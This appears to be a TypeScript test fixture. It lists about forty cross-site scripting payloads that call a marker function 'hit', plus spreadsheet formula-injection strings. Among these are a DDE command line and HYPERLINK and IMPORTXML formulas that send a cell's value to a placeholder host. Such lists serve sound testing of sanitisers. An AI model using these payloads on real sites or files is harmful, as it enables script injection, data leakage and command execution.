/** Texts that would call `hit` in a page that treats them as markup, an address, a style or a program. */
// prettier-ignore
export const scriptTexts: readonly string[] = [
  '<script>hit(1)</script>', '</script><script>hit(2)</script>', '<img src=x onerror=hit(3)>',
  '<img src=x onerror="hit(4)"//', '<svg onload=hit(5)>', '<svg/onload=hit(6)//',
  '<svg><script>hit(7)</script></svg>', '<svg><animate onbegin=hit(8) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hit(9)</script>"></iframe>',
  '<iframe src="javascript:parent.hit(10)"></iframe>', '<object data="javascript:hit(11)"></object>',
  '<embed src="javascript:hit(12)">', '<a href="javascript:hit(13)" autofocus onfocus="hit(13)">x</a>',
  '<body onload=hit(14)>', '<details open ontoggle=hit(15)>x</details>', '<input autofocus onfocus=hit(16)>',
  '<video src=x onerror=hit(17)></video>', '<audio src=x onerror=hit(18)>',
  '<math><mi xlink:href="javascript:hit(19)">x</mi></math>',
  '<style>@import "javascript:hit(20)"; body{background:url(javascript:hit(20))}</style>',
  '<link rel=stylesheet href="data:text/css,*{color:red}">', '<base href="//127.0.0.1:1/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit(23)">',
  '<form action="javascript:hit(24)"><button autofocus>x</button></form>',
  '<marquee onstart=hit(25)>x</marquee>', '"><img src=x onerror=hit(26)>', "'><img src=x onerror=hit(27)>",
  '" onmouseover="hit(28)" x="', "' autofocus onfocus='hit(29)' x='", 'javascript:hit(30)',
  'data:text/html,<script>hit(31)</script>', '&lt;script&gt;hit(32)&lt;/script&gt;',
  '&#60;img src=x onerror=hit(33)&#62;', '<noscript><p title="</noscript><img src=x onerror=hit(34)>">',
  '<template><img src=x onerror=hit(35)></template>', '{{constructor.constructor("hit(36)")()}}',
  '${hit(37)}', '<!--><img src=x onerror=hit(38)>-->', '<![CDATA[<img src=x onerror=hit(39)>]]>',
  '<x/onclick=hit(40) style=position:fixed;inset:0>x',
]

/** Texts that a spreadsheet would treat as a formula. */
export const formulaTexts: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("https://example.test/?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  '=IMPORTXML("https://example.test","//a")',
  '%0A-3+3',
]
